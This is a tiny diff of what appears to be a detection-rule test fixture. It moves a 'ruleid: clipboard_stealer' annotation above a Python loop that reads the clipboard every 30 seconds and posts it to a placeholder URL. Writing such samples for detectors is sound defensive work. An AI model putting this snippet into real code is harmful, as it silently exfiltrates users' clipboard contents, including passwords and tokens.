@@ -1,5 +1,5 @@
 import pyperclip, time, requests
+# ruleid: clipboard_stealer
 while True:
-    # ruleid: clipboard_stealer
     requests.post(URL, data=pyperclip.paste())
     time.sleep(30)
